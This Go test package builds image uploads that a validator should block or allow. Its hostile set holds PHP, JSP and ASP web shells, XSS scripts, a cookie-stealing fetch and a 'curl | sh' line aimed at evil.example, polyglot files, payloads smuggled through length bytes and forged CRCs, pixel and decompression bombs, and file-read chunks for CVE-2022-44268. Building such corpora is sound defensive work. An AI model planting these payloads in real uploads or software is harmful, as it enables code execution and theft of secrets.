package uploadcorpus

import (
	"bytes"
	"encoding/binary"
	"image"

	"github.com/secmon-go/secmon"
)

// Case is one upload with the verdict a conforming validator gives it.
type Case struct {
	Name        string
	Upload      secmon.Upload
	WantAllowed bool
	// WantCodes are threat codes a conforming validator must report; it
	// may report more (a PNG with a ZIP appended is both trailing_data and
	// embedded_archive, and a validator may add corrupt if it also fails
	// a CRC).
	WantCodes []secmon.ThreatCode
}

// OversizedBytes is the size of the oversized case: 6 MiB, over the
// default 5 MiB limit.
const OversizedBytes = 6 << 20

func up(name, typ string, data []byte) secmon.Upload {
	return secmon.Upload{Name: name, DeclaredType: typ, Data: data}
}

func codes(c ...secmon.ThreatCode) []secmon.ThreatCode { return c }

// Hostile returns uploads a validator must block, each built in memory on
// every call (the slices are the caller's to keep or change).
func Hostile() []Case {
	small := encodePNG(chartImage(32, 24))
	jpg := encodeJPEG(chartImage(32, 24), 90)
	gf := stillGIF(16, 16)

	oversized := make([]byte, OversizedBytes)
	copy(oversized, small)

	polyGIF := stillGIF(1, 1)
	copy(polyGIF[6:8], "/*") // logical screen width 0x2A2F opens a JS comment
	polyGIF = gifWith(polyGIF, gifExtension(0xfe, []byte("*/")))
	polyGIF = append(polyGIF, "=alert(1);//"...)

	pdf := []byte("%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n" +
		"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")

	noRIFF := append([]byte("XXXX"), webpLossless1x1[4:]...)

	bombPNG := append([]byte("\x89PNG\r\n\x1a\n"), pngChunk("IHDR", []byte{0, 0, 0x4e, 0x20, 0, 0, 0x4e, 0x20, 8, 2, 0, 0, 0})...)
	bombPNG = append(bombPNG, pngChunk("IDAT", deflate(make([]byte, 60001)))...)
	bombPNG = append(bombPNG, pngChunk("IEND", nil)...)

	bombGIF := stillGIF(1, 1)
	copy(bombGIF[6:10], []byte{0xff, 0xff, 0xff, 0xff}) // 65535×65535 screen

	// 60 frames of 1000×1000, each well under the limit: 60 megapixels
	// for a decoder that keeps every frame (image/gif's DecodeAll does).
	framesGIF := []byte("GIF89a\xe8\x03\xe8\x03\x00\x00\x00")
	for range 60 {
		framesGIF = append(framesGIF, 0x2c, 0, 0, 0, 0, 0xe8, 0x03, 0xe8, 0x03, 0x00, 0x02, 0x02, 0x4c, 0x01, 0x00)
	}
	framesGIF = append(framesGIF, 0x3b)

	ztxt := append([]byte("Comment\x00\x00"), zlibBomb()...)

	svg := []byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">` +
		`<rect width="10" height="10"/><script>alert(document.domain)</script></svg>`)

	exifScript := tiffLE([]tiffEntry{
		asciiEntry(0x010e, `<script>fetch("//evil.example/"+document.cookie)</script>`),
		asciiEntry(0x010f, "Canon"),
	}, nil)
	xpComment := tiffLE([]tiffEntry{asciiEntry(0x010f, "Canon"), utf16Entry(0x9c9c, "<?php system($_GET['c']); ?>")}, nil)

	php := []byte("<?php system($_GET['c']); ?>")
	// A graphic control extension is one 4-byte sub-block; a looping
	// extension one 3-byte sub-block. Decoders skip further sub-blocks, so
	// a validator that keeps these extensions must not skip them unread.
	gceHidden := subBlocks([]byte{0x21, 0xf9, 4, 0, 0, 0, 0}, php)
	loopHidden := subBlocks(append([]byte{0x21, 0xff, 11}, "NETSCAPE2.0\x03\x01\x00\x00"...), []byte("<script>alert(1)</script>"))

	// Kept JPEG segments: a validator that keeps the ICC profile, the Adobe
	// segment or JFIF must still read them.
	icc := append([]byte("ICC_PROFILE\x00\x01\x01"), php...)
	adobe := append([]byte("Adobe\x00\x64\x00\x00\x00\x00\x01"), "<script>alert(1)</script>"...)
	jfif := jpegSegment(0xe0, append([]byte("JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"), php...))
	manyScans := append([]byte{0xff, 0xd8}, jpegSegment(0xc0, []byte{8, 0x0f, 0xa0, 0x0f, 0xa0, 1, 1, 0x11, 0})...)
	// 65535×65535 in a 30-byte JPEG: 4.3 gigapixels from the frame header.
	bombJPEG := append([]byte{0xff, 0xd8}, jpegSegment(0xc0, []byte{8, 0xff, 0xff, 0xff, 0xff, 1, 1, 0x11, 0})...)
	bombJPEG = append(bombJPEG, jpegSegment(0xda, []byte{1, 1, 0, 0, 63, 0})...)
	bombJPEG = append(bombJPEG, 0, 0xff, 0xd9)
	for range 300 {
		manyScans = append(manyScans, jpegSegment(0xda, []byte{1, 1, 0, 0, 63, 0})...)
		manyScans = append(manyScans, 0)
	}
	manyScans = append(manyScans, 0xff, 0xd9)

	// Kept PNG chunks: the iCCP keyword is free text; a gAMA chunk longer
	// than its 4 bytes carries bytes no decoder reads.
	iccp := append(append([]byte("<?php system($_GET[c]);?>"), 0, 0), deflate([]byte("profile"))...)
	gama := append([]byte{0, 0, 0xb1, 0x8f}, "<script>alert(1)</script>"...)
	// An APNG whose acTL declares one frame but that has three fcTL
	// frames of a 5000×5000 canvas: 75 megapixels to render, 25 declared.
	apng := append([]byte("\x89PNG\r\n\x1a\n"), pngChunk("IHDR", []byte{0, 0, 0x13, 0x88, 0, 0, 0x13, 0x88, 8, 2, 0, 0, 0})...)
	apng = append(apng, pngChunk("acTL", []byte{0, 0, 0, 1, 0, 0, 0, 0})...)
	for i := range 3 {
		fc := make([]byte, 26)
		binary.BigEndian.PutUint32(fc, uint32(2*i))
		binary.BigEndian.PutUint32(fc[4:], 5000)
		binary.BigEndian.PutUint32(fc[8:], 5000)
		apng = append(apng, pngChunk("fcTL", fc)...)
		if i == 0 {
			apng = append(apng, pngChunk("IDAT", deflate(make([]byte, 64)))...)
		} else {
			apng = append(apng, pngChunk("fdAT", append(binary.BigEndian.AppendUint32(nil, uint32(2*i+1)), deflate(make([]byte, 64))...))...)
		}
	}
	apng = append(apng, pngChunk("IEND", nil)...)

	// Kept WebP chunks, and a canvas that disagrees with its bitstream.
	vp8l := webpChunk("VP8L", webpLossless1x1[20:33])
	webpICC := webpFile(vp8x(0x30, 1, 1), webpChunk("ICCP", php), vp8l)
	webpANIM := webpFile(vp8x(0x10, 1, 1), webpChunk("ANIM", append(make([]byte, 6), "<script>alert(1)</script>"...)), vp8l)
	anim := webpChunk("ANIM", make([]byte, 6))
	vp8lHuge := webpChunk("VP8L", []byte{0x2f, 0xff, 0xff, 0xff, 0x0f, 0, 0, 0}) // 16384×16384
	webpFrameChunk := webpFile(vp8x(0x12, 1, 1), anim, anmf(1, 1, vp8l, webpChunk("ZZZZ", php)))
	webpFrameBomb := webpFile(vp8x(0x12, 1, 1), anim, anmf(1, 1, vp8lHuge))
	// The bitstream's last bytes (which decoders ignore) are "<?p" and the
	// next chunk is named "hp /" with a size of 42 ('*'): the file holds
	// "<?php /*\0\0\0*/system('id');?>", a complete PHP program.
	straddle := webpFile(webpChunk("VP8L", append(bytes.Clone(webpLossless1x1[20:33]), "<?p"...)),
		webpChunk("hp /", append([]byte("*/system('id');?>"), bytes.Repeat([]byte(" "), 42-17)...)))
	webpBomb := webpFile(vp8x(0x10, 16384, 16384), vp8lHuge)
	webpBig := webpFile(vp8x(0x10, 1, 1), vp8lHuge)

	// EXIF: script in the GPS directory, and PHP in bytes after the
	// directories that no tag points at.
	exifGPS := gpsTIFF("<script>alert(1)</script>")
	exifSlack := append(tiffLE([]tiffEntry{asciiEntry(0x010f, "Canon")}, nil), php...)

	// A GIF comment whose second sub-block's length byte is 'p' (0x70):
	// the file holds "<?php system(...)" contiguously (what PHP's include
	// sees), the joined comment holds "<?ph system(...)".
	lengthByte := append([]byte{0x21, 0xfe, 4, '<', '?', 'p', 'h', 'p'}, bytes.Repeat([]byte(" system($_GET[c]);?>"), 6)[:0x70]...)
	lengthByte = append(lengthByte, 0)

	// A COM segment of 0x3C3F bytes: its length field reads "<?", and the
	// comment goes on "=`id`?>", so the file holds "<?=`id`?>" although
	// the comment alone does not.
	lengthTag := append([]byte("=`id`?>"), bytes.Repeat([]byte(" "), 0x3c3f-2-7)...)

	// A tEXt chunk ending "<?" whose CRC is forged to read "=`id": the file
	// holds "<?=`id", the text alone "<?".
	crcText := []byte("Comment\x00")
	crcText = append(crcText, forgeCRC(append([]byte("tEXt"), crcText...), []byte(" <?"), 0x3d606964)...)
	crcText = append(crcText, " <?"...)

	return []Case{
		{"oversized", up("chart.png", "image/png", oversized), false, codes(secmon.ThreatSizeExceeded)},
		{"fake_extension_png_as_jpg", up("chart.jpg", "image/jpeg", small), false, codes(secmon.ThreatTypeMismatch)},
		{"png_named_php", up("chart.php", "image/png", small), false, codes(secmon.ThreatTypeMismatch)},
		{"png_named_php_png", up("chart.php.png", "image/png", bytes.Clone(small)), false, codes(secmon.ThreatTypeMismatch)},
		{"png_named_asp_semicolon", up("chart.asp;.png", "image/png", bytes.Clone(small)), false, codes(secmon.ThreatTypeMismatch)},
		{"png_named_php_nul_png", up("chart.php\x00.png", "image/png", bytes.Clone(small)), false, codes(secmon.ThreatTypeMismatch)},
		{"pe_executable_as_png", up("chart.png", "image/png", peBytes()), false, codes(secmon.ThreatTypeMismatch, secmon.ThreatDisallowedType)},
		{"elf_executable_as_jpg", up("chart.jpg", "image/jpeg", elfBytes()), false, codes(secmon.ThreatTypeMismatch, secmon.ThreatDisallowedType)},
		{"shebang_script_as_gif", up("chart.gif", "image/gif", []byte("#!/bin/sh\ncurl http://evil.example | sh\n")), false, codes(secmon.ThreatTypeMismatch, secmon.ThreatDisallowedType)},
		{"html_as_png", up("chart.png", "image/png", []byte("<!DOCTYPE html><html><body><script>alert(1)</script></body></html>")), false, codes(secmon.ThreatTypeMismatch, secmon.ThreatDisallowedType)},
		{"php_as_jpg", up("chart.jpg", "image/jpeg", []byte("<?php system($_GET['c']); ?>")), false, codes(secmon.ThreatTypeMismatch, secmon.ThreatDisallowedType)},
		{"zip_as_png", up("chart.png", "image/png", zipBytes("index.html", "<script>alert(1)</script>")), false, codes(secmon.ThreatTypeMismatch, secmon.ThreatDisallowedType)},
		{"jpeg_exif_script", up("photo.jpg", "image/jpeg", jpegWith(jpg, exifAPP1(exifScript))), false, codes(secmon.ThreatScriptInMetadata)},
		{"jpeg_exif_xpcomment_utf16_php", up("photo.jpg", "image/jpeg", jpegWith(jpg, exifAPP1(xpComment))), false, codes(secmon.ThreatScriptInMetadata)},
		{"jpeg_exif_gps_script", up("photo.jpg", "image/jpeg", jpegWith(jpg, exifAPP1(exifGPS))), false, codes(secmon.ThreatScriptInMetadata)},
		{"jpeg_exif_slack_php", up("photo.jpg", "image/jpeg", jpegWith(jpg, exifAPP1(exifSlack))), false, codes(secmon.ThreatScriptInMetadata)},
		{"jpeg_com_php", up("photo.jpg", "image/jpeg", jpegWith(jpg, jpegSegment(0xfe, []byte("<?php eval($_POST['x']); ?>")))), false, codes(secmon.ThreatScriptInMetadata)},
		{"jpeg_xmp_event_handler", up("photo.jpg", "image/jpeg", jpegWith(jpg, jpegSegment(0xe1, []byte("http://ns.adobe.com/xap/1.0/\x00<x:xmpmeta><svg onload =alert(1)></x:xmpmeta>")))), false, codes(secmon.ThreatScriptInMetadata)},
		{"jpeg_xmp_entity_encoded_script", up("photo.jpg", "image/jpeg", jpegWith(jpg, jpegSegment(0xe1, []byte("http://ns.adobe.com/xap/1.0/\x00<x:xmpmeta><dc:title>&lt;script&gt;alert(1)&lt;/script&gt;</dc:title></x:xmpmeta>")))), false, codes(secmon.ThreatScriptInMetadata)},
		{"png_text_php_short_tag", up("chart.png", "image/png", pngWith(small, pngChunk("tEXt", []byte("Comment\x00<? system($_GET['c']); ?>")))), false, codes(secmon.ThreatScriptInMetadata)},
		{"jpeg_xmp_extension_split_script", up("photo.jpg", "image/jpeg", jpegWith(jpg,
			xmpExtension(31, 15, `ipt>alert(1)</x>`), xmpExtension(31, 0, `<x:xmpmeta><scr`))), false, codes(secmon.ThreatScriptInMetadata)},
		{"png_itxt_encoded_javascript_link", up("chart.png", "image/png", pngWith(small, pngChunk("iTXt", []byte("Description\x00\x00\x00en\x00\x00<a href=\"java&#115;cript:alert(1)\">source</a>")))), false, codes(secmon.ThreatScriptInMetadata)},
		{"png_text_event_handler", up("chart.png", "image/png", pngWith(small, pngChunk("tEXt", []byte("Comment\x00<img src=x onerror=alert(1)>")))), false, codes(secmon.ThreatScriptInMetadata)},
		{"png_ztxt_script", up("chart.png", "image/png", pngWith(small, pngChunk("zTXt", append([]byte("Comment\x00\x00"), deflate([]byte("<script>alert(1)</script>"))...)))), false, codes(secmon.ThreatScriptInMetadata)},
		{"png_text_crc_completes_php_tag", up("chart.png", "image/png", pngWith(small, pngChunk("tEXt", crcText), pngChunk("tEXt", []byte("Comment\x00`?>")))), false, codes(secmon.ThreatScriptInMetadata)},
		{"png_iccp_keyword_php", up("chart.png", "image/png", pngWith(small, pngChunk("iCCP", iccp))), false, codes(secmon.ThreatScriptInMetadata)},
		{"png_gama_hidden_script", up("chart.png", "image/png", pngWith(small, pngChunk("gAMA", gama))), false, codes(secmon.ThreatScriptInMetadata)},
		{"pixel_bomb_apng_frames", up("chart.png", "image/png", apng), false, codes(secmon.ThreatPixelBomb)},
		{"png_ztxt_php_after_stream", up("chart.png", "image/png", pngWith(small, pngChunk("zTXt", append(append([]byte("Comment\x00\x00"), deflate([]byte("Made with chartlib"))...), php...)))), false, codes(secmon.ThreatScriptInMetadata)},
		{"png_zip_appended", up("chart.png", "image/png", append(bytes.Clone(small), zipBytes("shell.php", "<?php system($_GET['c']); ?>")...)), false, codes(secmon.ThreatTrailingData, secmon.ThreatEmbeddedArchive)},
		{"png_html_appended", up("chart.png", "image/png", append(bytes.Clone(small), "<html><body><script>alert(document.cookie)</script></body></html>"...)), false, codes(secmon.ThreatTrailingData, secmon.ThreatHTMLContent)},
		{"gifar", up("avatar.gif", "image/gif", append(bytes.Clone(gf), zipBytes("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nMain-Class: Exploit\n", "Exploit.class", "\xca\xfe\xba\xbe")...)), false, codes(secmon.ThreatTrailingData, secmon.ThreatEmbeddedArchive)},
		{"gif_js_polyglot", up("chart.gif", "image/gif", polyGIF), false, codes(secmon.ThreatPolyglot)},
		{"gif_comment_script", up("chart.gif", "image/gif", gifWith(gf, gifExtension(0xfe, []byte("<script>alert(1)</script>")))), false, codes(secmon.ThreatScriptInMetadata)},
		{"gif_comment_php_in_length_byte", up("chart.gif", "image/gif", gifWith(gf, lengthByte)), false, codes(secmon.ThreatScriptInMetadata)},
		{"gif_graphic_control_hidden_php", up("chart.gif", "image/gif", gifBeforeImage(gf, gceHidden)), false, codes(secmon.ThreatCorrupt)},
		{"gif_netscape_hidden_script", up("chart.gif", "image/gif", gifBeforeImage(gf, loopHidden)), false, codes(secmon.ThreatScriptInMetadata)},
		{"jpeg_com_length_completes_php_tag", up("photo.jpg", "image/jpeg", jpegWith(jpg, jpegSegment(0xfe, lengthTag))), false, codes(secmon.ThreatScriptInMetadata)},
		{"jpeg_icc_profile_php", up("photo.jpg", "image/jpeg", jpegWith(jpg, jpegSegment(0xe2, icc))), false, codes(secmon.ThreatScriptInMetadata)},
		{"jpeg_adobe_segment_script", up("photo.jpg", "image/jpeg", jpegWith(jpg, jpegSegment(0xee, adobe))), false, codes(secmon.ThreatScriptInMetadata)},
		{"jpeg_jfif_thumbnail_php", up("photo.jpg", "image/jpeg", jpegWith(jpg, jfif)), false, codes(secmon.ThreatScriptInMetadata)},
		{"jpeg_reserved_marker_script", up("photo.jpg", "image/jpeg", jpegWith(jpg, jpegSegment(0xf0, []byte("<script>alert(1)</script>")))), false, codes(secmon.ThreatScriptInMetadata)},
		{"jpeg_many_scans", up("photo.jpg", "image/jpeg", manyScans), false, codes(secmon.ThreatPixelBomb)},
		{"jpeg_pdf_polyglot", up("photo.jpg", "image/jpeg", jpegWith(jpg, jpegSegment(0xfe, pdf))), false, codes(secmon.ThreatPolyglot)},
		{"webp_without_riff", up("chart.webp", "image/webp", noRIFF), false, codes(secmon.ThreatDisallowedType)},
		{"webp_exif_script", up("chart.webp", "image/webp", webpExtended(tiffLE([]tiffEntry{asciiEntry(0x013b, "<iframe src=javascript:alert(1)>")}, nil), nil)), false, codes(secmon.ThreatScriptInMetadata)},
		{"webp_iccp_php", up("chart.webp", "image/webp", webpICC), false, codes(secmon.ThreatScriptInMetadata)},
		{"webp_anim_hidden_script", up("chart.webp", "image/webp", webpANIM), false, codes(secmon.ThreatCorrupt)},
		{"webp_php_across_chunk_header", up("chart.webp", "image/webp", straddle), false, codes(secmon.ThreatScriptInMetadata)},
		{"webp_frame_unknown_chunk_php", up("chart.webp", "image/webp", webpFrameChunk), false, codes(secmon.ThreatScriptInMetadata)},
		{"pixel_bomb_webp_frame_bitstream", up("chart.webp", "image/webp", webpFrameBomb), false, codes(secmon.ThreatPixelBomb)},
		{"pixel_bomb_webp_canvas", up("chart.webp", "image/webp", webpBomb), false, codes(secmon.ThreatPixelBomb)},
		{"pixel_bomb_webp_bitstream", up("chart.webp", "image/webp", webpBig), false, codes(secmon.ThreatPixelBomb)},
		{"pixel_bomb_png", up("chart.png", "image/png", bombPNG), false, codes(secmon.ThreatPixelBomb)},
		{"pixel_bomb_jpeg", up("photo.jpg", "image/jpeg", bombJPEG), false, codes(secmon.ThreatPixelBomb)},
		{"pixel_bomb_gif", up("chart.gif", "image/gif", bombGIF), false, codes(secmon.ThreatPixelBomb)},
		{"pixel_bomb_gif_frames", up("chart.gif", "image/gif", framesGIF), false, codes(secmon.ThreatPixelBomb)},
		{"truncated_png", up("chart.png", "image/png", bytes.Clone(small[:len(small)/2])), false, codes(secmon.ThreatCorrupt)},
		{"truncated_jpeg", up("photo.jpg", "image/jpeg", bytes.Clone(jpg[:len(jpg)*2/3])), false, codes(secmon.ThreatCorrupt)},
		{"goexif_count_overflow", up("photo.jpg", "image/jpeg", jpegWith(jpg, exifAPP1(countOverflowTIFF()))), false, codes(secmon.ThreatCorrupt)},
		{"goexif_ifd_loop", up("photo.jpg", "image/jpeg", jpegWith(jpg, exifAPP1(ifdLoopTIFF()))), false, codes(secmon.ThreatCorrupt)},
		{"png_ztxt_bomb", up("chart.png", "image/png", pngWith(small, pngChunk("zTXt", ztxt))), false, codes(secmon.ThreatCorrupt)},
		{"svg_script", up("chart.svg", "image/svg+xml", svg), false, codes(secmon.ThreatDisallowedType)},

		// Payloads stored literally in pixel data, after public techniques.
		{"png_idat_php_resize_bypass", up("avatar.png", "image/png", pngStoredRGB(32, 8, 2, []byte("<?=$_GET[0]($_POST[1]);?>"))), false, codes(secmon.ThreatScriptInImageData)},
		{"png_idat_php_open_tag", up("avatar.png", "image/png", pngStoredRGB(32, 8, 5, php)), false, codes(secmon.ThreatScriptInImageData)},
		{"png_idat_asp", up("avatar.png", "image/png", pngStoredRGB(32, 8, 1, []byte(`<%eval request("c")%>`))), false, codes(secmon.ThreatScriptInImageData)},
		{"png_idat_svg_onload", up("avatar.png", "image/png", pngStoredRGB(32, 8, 3, []byte("<svg/onload=alert(document.domain)>"))), false, codes(secmon.ThreatScriptInImageData)},
		{"png_plte_php", up("avatar.png", "image/png", pngPalettePayload([]byte("<?php system($_GET[0]);?>"))), false, codes(secmon.ThreatScriptInImageData)},
		{"png_idat_zip", up("avatar.png", "image/png", zipInIDAT()), false, codes(secmon.ThreatEmbeddedArchive)},
		{"jpeg_scan_php", up("photo.jpg", "image/jpeg", jpegScanPayload(jpg, php)), false, codes(secmon.ThreatScriptInImageData)},
		{"jpeg_scan_jsp", up("photo.jpg", "image/jpeg", jpegScanPayload(jpg, []byte(`<%Runtime.getRuntime().exec(request.getParameter("c"));%>`))), false, codes(secmon.ThreatScriptInImageData)},
		{"jpeg_scan_script", up("photo.jpg", "image/jpeg", jpegScanPayload(jpg, []byte("<script>alert(document.domain)</script>"))), false, codes(secmon.ThreatScriptInImageData)},
		{"gif_lzw_php", up("avatar.gif", "image/gif", gifImageDataPayload(gf, php)), false, codes(secmon.ThreatScriptInImageData)},
		{"gif_palette_php", up("avatar.gif", "image/gif", gifPalettePayload(gf, []byte("<?php system($_GET[0]);?>"))), false, codes(secmon.ThreatScriptInImageData)},
		{"jpeg_mpf_preview_php", up("IMG_5521.JPG", "image/jpeg", mpfJPEG(jpg, jpegWith(encodeJPEG(chartImage(16, 12), 80), jpegSegment(0xfe, php)))), false, codes(secmon.ThreatScriptInMetadata)},
		{"jpeg_samsung_motion_photo", up("20230514_091244.jpg", "image/jpeg", append(bytes.Clone(jpg), samsungTrailerBytes([2]string{"MotionPhoto_Data", "\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom"})...)), false, codes(secmon.ThreatTrailingData)},
		{"jpeg_js_polyglot", up("photo.jpg", "image/jpeg", jpegJSPolyglot(jpg)), false, codes(secmon.ThreatPolyglot)},
		{"imagetragick_mvg_as_png", up("chart.png", "image/png", []byte(imageTragickMVG)), false, codes(secmon.ThreatTypeMismatch, secmon.ThreatDisallowedType)},

		// Animation frame bombs: each frame is tiny, the count is not.
		{"gif_frame_bomb", up("chart.gif", "image/gif", gifFrames(40_000)), false, codes(secmon.ThreatPixelBomb)},
		{"apng_frame_bomb", up("chart.png", "image/png", apngFrames(1100)), false, codes(secmon.ThreatPixelBomb)},
		{"webp_frame_bomb", up("chart.webp", "image/webp", webpFrames(1100)), false, codes(secmon.ThreatPixelBomb)},

		// Misplaced and repeated critical chunks.
		{"png_second_plte", up("chart.png", "image/png", pngDuplicate(palettePNG(), "PLTE")), false, codes(secmon.ThreatCorrupt)},
		{"png_second_ihdr", up("chart.png", "image/png", pngDuplicate(small, "IHDR")), false, codes(secmon.ThreatCorrupt)},
		{"png_chunk_before_ihdr", up("chart.png", "image/png", append(append([]byte("\x89PNG\r\n\x1a\n"), pngChunk("tEXt", []byte("Comment\x00hello"))...), small[8:]...)), false, codes(secmon.ThreatCorrupt)},

		// Metadata exfiltration: ImageMagick reads the file a "profile"
		// text chunk names into the image it writes (CVE-2022-44268).
		{"png_text_profile_cve_2022_44268", up("chart.png", "image/png", pngWith(small, pngChunk("tEXt", []byte("profile\x00/etc/passwd")))), false, codes(secmon.ThreatMetadataExfiltration)},
		{"png_ztxt_profile", up("chart.png", "image/png", pngWith(small, pngChunk("zTXt", append([]byte("profile\x00\x00"), deflate([]byte("/proc/self/environ"))...)))), false, codes(secmon.ThreatMetadataExfiltration)},
		{"png_itxt_local_file", up("chart.png", "image/png", pngWith(small, pngChunk("iTXt", []byte("Source\x00\x00\x00\x00\x00file:///etc/shadow")))), false, codes(secmon.ThreatMetadataExfiltration)},

		// Script in EXIF that fails pre-validation, and the EXIF backdoor
		// read by preg_replace /e.
		{"jpeg_broken_exif_php", up("photo.jpg", "image/jpeg", jpegWith(jpg, exifAPP1(brokenEXIFPHP()))), false, codes(secmon.ThreatScriptInMetadata)},
		{"jpeg_exif_preg_replace_backdoor", up("photo.jpg", "image/jpeg", jpegWith(jpg, exifAPP1(sucuriEXIFBackdoor()))), false, codes(secmon.ThreatScriptInMetadata)},
	}
}

// Repairable returns uploads as real cameras and editors write them that a
// validator must accept once sanitised: a malformed EXIF sub-directory, EXIF
// split over two segments, a few inert bytes after the end of the image.
// WantAllowed is true and WantCodes holds the low-severity code a
// conforming validator records; its sanitised copy has the fault removed.
func Repairable() []Case {
	small := encodePNG(chartImage(32, 24))
	jpg := encodeJPEG(chartImage(32, 24), 90)
	return []Case{
		{"jpeg_exif_bad_subdirectory", up("DSC_0042.JPG", "image/jpeg", jpegWith(jpg, exifAPP1(brokenEXIFSubdirectory()))), true, codes(secmon.ThreatMalformedMetadata)},
		{"jpeg_exif_split_two_segments", up("IMG_1234.JPG", "image/jpeg", splitEXIF(jpg)), true, codes(secmon.ThreatMalformedMetadata)},
		{"jpeg_stray_bytes_after_eoi", up("photo.jpg", "image/jpeg", append(bytes.Clone(jpg), "\r\n\x00\x00\x1a"...)), true, codes(secmon.ThreatTrailingPadding)},
		{"jpeg_samsung_trailer", up("20230514_091244.jpg", "image/jpeg", append(bytes.Clone(jpg), samsungTrailerBytes([2]string{"Image_UTC_Data", "1684055564123"}, [2]string{"MCC_Data", "262"})...)), true, codes(secmon.ThreatTrailingPadding)},
		{"png_zero_padding_after_iend", up("chart.png", "image/png", append(bytes.Clone(small), make([]byte, 4096)...)), true, codes(secmon.ThreatTrailingPadding)},
	}
}

// Benign returns uploads a validator must allow: plain PNG, JPEG, GIF and
// WebP files, and files carrying ordinary metadata (EXIF with an
// orientation, XMP, an ICC profile, PNG text chunks, a GIF comment).
func Benign() []Case {
	img := chartImage(32, 24)
	small := encodePNG(img)
	jpg := encodeJPEG(img, 90)

	exif := tiffLE([]tiffEntry{
		asciiEntry(0x010e, "Quarterly revenue chart"),
		asciiEntry(0x010f, "Canon"),
		asciiEntry(0x0110, "Canon EOS 5D Mark IV"),
		shortEntry(0x0112, 6),
		asciiEntry(0x0131, "chartlib 1.0"),
		utf16Entry(0x9c9c, "Revenue by region, Q3"),
	}, []tiffEntry{
		asciiEntry(0x9003, "2024:09:30 17:45:00"),
		undefinedEntry(0x9286, []byte("ASCII\x00\x00\x00Shot on a tripod; exposure +1/3")),
	})
	xmp := []byte(`<?xpacket begin="` + "\ufeff" + `" id="W5M0MpCehiHzreSzNTczkc9d"?>` +
		`<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">` +
		`<rdf:Description rdf:about="" xmlns:tiff="http://ns.adobe.com/tiff/1.0/" xmlns:exif="http://ns.adobe.com/exif/1.0/"` +
		` tiff:Orientation="6" exif:FocalPlaneResolutionUnit="2" exif:PixelXDimension="32"/>` +
		`</rdf:RDF></x:xmpmeta><?xpacket end="w"?>`)
	icc := append([]byte("ICC_PROFILE\x00\x01\x01"), bytes.Repeat([]byte{0, 0, 2, 0x0c, 'l', 'c', 'm', 's'}, 16)...)

	pngMeta := pngWith(small,
		pngChunk("gAMA", []byte{0, 0, 0xb1, 0x8f}),
		pngChunk("pHYs", []byte{0, 0, 0x0b, 0x13, 0, 0, 0x0b, 0x13, 1}),
		pngChunk("tEXt", []byte("Software\x00chartlib 1.0")),
		pngChunk("zTXt", append([]byte("Comment\x00\x00"), deflate([]byte("Generated for the Q3 review; questions to finance@example.com"))...)),
		pngChunk("iTXt", []byte("Title\x00\x00\x00en\x00Title\x00Quarterly revenue")),
		pngChunk("tIME", []byte{0x07, 0xe8, 9, 30, 17, 45, 0}),
		pngChunk("eXIf", tiffLE([]tiffEntry{asciiEntry(0x0131, "chartlib 1.0"), shortEntry(0x0112, 1)}, nil)),
	)

	return []Case{
		{Name: "png", Upload: up("chart.png", "image/png", small), WantAllowed: true},
		{Name: "jpeg", Upload: up("photo.jpeg", "image/jpeg; charset=binary", bytes.Clone(jpg)), WantAllowed: true},
		{Name: "gif_animated", Upload: up("chart.gif", "image/gif", animatedGIF(16, 12)), WantAllowed: true},
		{Name: "webp_lossless", Upload: up("chart.webp", "image/webp", bytes.Clone(webpLossless1x1)), WantAllowed: true},
		{Name: "webp_animated", Upload: up("chart.webp", "image/webp", webpFile(vp8x(0x12, 1, 1), webpChunk("ANIM", make([]byte, 6)),
			anmf(1, 1, webpChunk("VP8L", webpLossless1x1[20:33])), anmf(1, 1, webpChunk("VP8L", webpLossless1x1[20:33])))), WantAllowed: true},
		{Name: "webp_with_metadata", Upload: up("chart.webp", "image/webp", webpExtended(tiffLE([]tiffEntry{asciiEntry(0x0131, "chartlib 1.0")}, nil), xmp)), WantAllowed: true},
		{Name: "jpeg_with_exif_xmp_icc", Upload: up("IMG_0042.JPG", "image/jpeg", jpegWith(jpg,
			jpegSegment(0xe1, append([]byte("Exif\x00\x00"), exif...)),
			jpegSegment(0xe1, append([]byte("http://ns.adobe.com/xap/1.0/\x00"), xmp...)),
			jpegSegment(0xe2, icc),
			jpegSegment(0xfe, []byte("Created with chartlib 1.0 (one-click export)")),
		)), WantAllowed: true},
		{Name: "jpeg_jfif_thumbnail", Upload: up("photo.jpg", "image/jpeg", jpegWith(jpg, jpegSegment(0xe0, append([]byte("JFIF\x00\x01\x02\x01\x00\x48\x00\x48\x02\x01"), 0x10, 0x20, 0x30, 0x11, 0x21, 0x31)))), WantAllowed: true},
		{Name: "png_with_text", Upload: up("chart.png", "", pngMeta), WantAllowed: true},
		{Name: "gif_with_comment", Upload: up("chart.gif", "image/gif", gifWith(stillGIF(16, 16), gifExtension(0xfe, []byte("Made with chartlib; loads on every browser")))), WantAllowed: true},
		{Name: "jpeg_photoshop_print_settings", Upload: up("harbour.jpg", "image/jpeg", photoshopPrintJPEG(jpg)), WantAllowed: true},
		{Name: "jpeg_phone_mpf_makernote", Upload: up("20230514_091244.jpg", "image/jpeg", cameraJPEG(jpg)), WantAllowed: true},
		{Name: "png_palette", Upload: up("chart.png", "image/png", palettePNG()), WantAllowed: true},
		{Name: "jpeg_mpf_large_preview", Upload: up("IMG_5521.JPG", "image/jpeg", mpfJPEG(jpg, encodeJPEG(chartImage(16, 12), 80))), WantAllowed: true},
		{Name: "gif_1000_frames", Upload: up("spinner.gif", "image/gif", gifFrames(1000)), WantAllowed: true},
	}
}

// PhotoPNG returns a photo-like PNG (smooth colour fields with per-pixel
// noise) as close to maxBytes as a few trial encodings get without going
// over. It is meant for performance tests of upload paths.
func PhotoPNG(maxBytes int) []byte {
	return sized(maxBytes, func(img image.Image) []byte { return encodePNG(img) })
}

// PhotoJPEG is PhotoPNG for JPEG at quality 95.
func PhotoJPEG(maxBytes int) []byte {
	return sized(maxBytes, func(img image.Image) []byte { return encodeJPEG(img, 95) })
}
